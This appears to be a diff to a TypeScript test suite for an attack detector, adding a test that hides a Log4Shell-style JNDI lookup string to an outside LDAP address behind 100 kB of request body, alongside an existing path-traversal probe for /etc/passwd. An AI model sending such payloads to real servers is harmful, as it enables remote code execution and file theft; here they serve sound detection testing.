@@ -10,7 +10,7 @@ import { get, until } from './test-host.ts'
 const SHOP = 'shop.test.localhost'
 const BIG = 3_000_000
 /** Answers everything, what is asked for as a big page with megabytes. */
-const PROGRAM = `require('http').createServer((q,r)=>r.end(q.url==='/big'?Buffer.alloc(${BIG},97):'hello')).listen(${INSTANCE_PORT});process.on('SIGTERM',()=>process.exit(0))`
+const PROGRAM = `require('http').createServer((q,r)=>q.on('end',()=>r.end(q.url==='/big'?Buffer.alloc(${BIG},97):'hello')).resume()).listen(${INSTANCE_PORT});process.on('SIGTERM',()=>process.exit(0))`
 
 let agent: TestAgent
 let seen = 0
@@ -96,6 +96,32 @@ test('ordinary requests are not told of', async () => {
 test('connections that the edge keeps open are read to their end, however much went through them', async () => {
   for (let times = 0; times < 3; times++) await get(agent.host, SHOP, '/big')
   assert.equal((await attack('/page?file=/etc/passwd')).finding_info?.uid, '7000011')
+})
+
+test('what is hidden behind 100 kB of a request’s body is found', async () => {
+  const { ports } = agent.host.installation
+  const body = `${'x'.repeat(100_000)}${['$', '{jndi:ldap://192.0.2.66/deep}'].join('')}`
+  const url = `https://${SHOP}:${ports.https}/form`
+  const event = await until('it is told of', async () => {
+    await run(
+      [
+        'curl',
+        '-sk',
+        '-m',
+        '10',
+        '--resolve',
+        `${SHOP}:${ports.https}:127.0.0.1`,
+        '--data-binary',
+        '@-',
+        url,
+      ],
+      {
+        input: body,
+      },
+    )
+    return (await news(1_000)).find(({ message }) => message.includes('/form'))
+  })
+  assert.equal(event.finding_info?.uid, '7000032')
 })
 
 test('a detector that is killed is there again, and finds attacks again', async (t) => {
